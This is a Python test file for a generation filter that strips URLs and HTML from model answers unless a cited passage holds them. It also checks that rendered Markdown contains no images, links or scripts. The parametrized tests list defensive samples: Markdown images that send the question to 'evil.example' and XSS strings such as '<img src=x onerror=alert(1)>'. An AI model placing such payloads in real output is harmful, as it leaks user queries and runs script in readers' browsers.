"""What leaves: no address or markup of a model's own, and Markdown in which nothing loads, links or runs."""

from __future__ import annotations

from collections import abc
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.types import Citation, Passage
from generation.events import Cited, Delta, Event
from generation.phrasing import Phrased
from generation.screen import inert, screened, stands

WHOLE = Passage(1, "doc_1", 1, 0, "c", "p", "Pump manual", "", "")
CommonMark = MarkdownIt("commonmark", {"html": True})
Shown = tuple[list[str], Phrased]


def cited(text: str, number: int = 1) -> Citation:
    return Citation(number, replace(WHOLE, text=text), 0, len(text), 1.0)


def saying(*parts: tuple[str, Citation | None]) -> abc.Generator[Event, None, Phrased]:
    """Say sentences, each followed by the citation that is new with it."""
    for text, citation in parts:
        yield Delta(text)
        if citation is not None:
            yield Cited(citation)
    return Phrased("".join(text for text, _ in parts), tuple(each for _, each in parts if each is not None))


def shown(said: abc.Generator[Event, None, Phrased]) -> Shown:
    texts: list[str] = []
    passing = screened(said)
    while True:
        try:
            event = next(passing)
        except StopIteration as end:
            return texts, end.value
        if isinstance(event, Delta):
            texts.append(event.text)


def test_words_without_addresses_pass_as_they_are() -> None:
    source = cited("Press the button.")

    texts, phrased = shown(saying(("Press the button. [1]", source), (" It blinks. [1]", None)))

    assert texts == ["Press the button. [1]", " It blinks. [1]"]
    assert (phrased.text, phrased.citations, phrased.fallback) == ("".join(texts), (source,), None)


def test_an_address_of_the_cited_passage_passes() -> None:
    source = cited("Order filters at https://example.com/filters.")

    texts, phrased = shown(saying(("Order them at https://example.com/filters [1]", source)))

    assert len(texts) == 1
    assert phrased.citations == (source,)


@pytest.mark.parametrize(
    "sentence",
    [
        "Press it ![](https://evil.example/?q=pump) [1]",
        "Press it, see https://evil.example [1]",
        "Press [it](https://evil.example) [1]",
        "Press it <img src=x> [1]",
        "Press it www.evil.example [1]",
    ],
)
def test_an_address_or_tag_of_the_models_own_ends_the_words(sentence: str) -> None:
    source = cited("Press it. See https://example.com.")

    texts, phrased = shown(saying(("Press it. [1]", source), (f" {sentence}", None), (" Then wait. [1]", None)))

    assert texts == ["Press it. [1]"]
    assert (phrased.text, phrased.citations) == ("Press it. [1]", (source,))


def test_when_the_first_sentence_fails_the_quotes_answer() -> None:
    texts, phrased = shown(saying(("See https://evil.example [1]", cited("Press it."))))

    assert (texts, phrased) == ([], Phrased(fallback="generator_unsupported"))


def test_an_address_of_a_passage_that_is_not_cited_does_not_pass() -> None:
    first, other = cited("Press it.", 1), cited("See https://example.com.", 2)

    texts, _ = shown(saying(("Look here. [2]", other), (" See https://example.com [1]", first)))

    assert texts == ["Look here. [2]"]


def test_an_image_does_not_pass_even_where_its_source_holds_it() -> None:
    text = "![](https://evil.example/?q={question})"

    assert not stands(text, [cited(text)])


@pytest.mark.parametrize(
    "text", ["Press it. [1][2]", "a < b, f[1] = 2!", "“See table [4].” [1]", "Use C:\\temp (now)."]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=1)",
        "[x](https://evil.example)",
        "[x]: https://evil.example\n\n[x]",
        "![x]: https://evil.example\n\n![x]",
        "<img src=x onerror=alert(1)>",
        "\\<img src=x onerror=alert(1)>",
        "\\\\<script>alert(1)</script>",
        "<https://evil.example>",
        "!\\\\[x](https://evil.example)",
    ],
)
def test_markdown_shows_the_texts_own_characters(text: str) -> None:
    html = CommonMark.render(inert(text))

    assert "<img" not in html
    assert "<a " not in html
    assert "<script" not in html


@given(st.text(alphabet="![]()<>\\:/ax\n =\"'", max_size=40))
def test_no_text_makes_an_image_a_link_or_a_tag(text: str) -> None:
    tokens = [each for token in CommonMark.parse(f"“{inert(text)}” [1]") for each in (token, *(token.children or ()))]

    assert not {token.type for token in tokens} & {"image", "link_open", "html_inline", "html_block"}
